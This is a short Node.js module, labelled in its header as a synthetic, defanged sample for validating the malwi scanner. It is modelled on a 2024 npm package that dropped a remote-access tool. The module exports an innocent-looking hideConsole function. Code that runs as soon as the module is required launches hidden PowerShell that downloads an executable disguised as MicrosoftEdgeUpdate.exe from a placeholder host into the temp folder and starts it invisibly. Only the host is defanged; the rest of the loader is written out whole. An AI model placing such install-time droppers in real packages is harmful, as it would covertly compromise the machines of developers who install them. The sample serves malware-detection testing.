// SYNTHETIC, DEFANGED malwi validation sample - modelled on node-hide-console-windows (2024, RAT and rootkit download); never run.
'use strict';
const { exec } = require('child_process');

function hideConsole() {
  if (process.platform !== 'win32') return false;
  exec('powershell -WindowStyle Hidden -Command "$w=Add-Type -Name W -PassThru -MemberDefinition \'[DllImport(\\"user32.dll\\")]public static extern bool ShowWindow(int h,int c);\'; $w::ShowWindow((Get-Process -Id ' + process.pid + ').MainWindowHandle,0)"');
  return true;
}

// Runs on require: fetch and start a RAT binary hidden, from the temp folder.
if (process.platform === 'win32') {
  exec(
    'powershell -WindowStyle Hidden -Command "$p=Join-Path $env:TEMP \'malwi-defanged-placeholder\'; New-Item -ItemType Directory -Force $p | Out-Null; ' +
      "Invoke-WebRequest 'https://cdn-files.example.invalid/attachments/000/000/MicrosoftEdgeUpdate.exe' -OutFile \"$p\\MicrosoftEdgeUpdate.exe\"; " +
      'Start-Process \"$p\\MicrosoftEdgeUpdate.exe\" -WindowStyle Hidden"',
    { windowsHide: true },
    () => {}
  );
}

module.exports = { hideConsole };
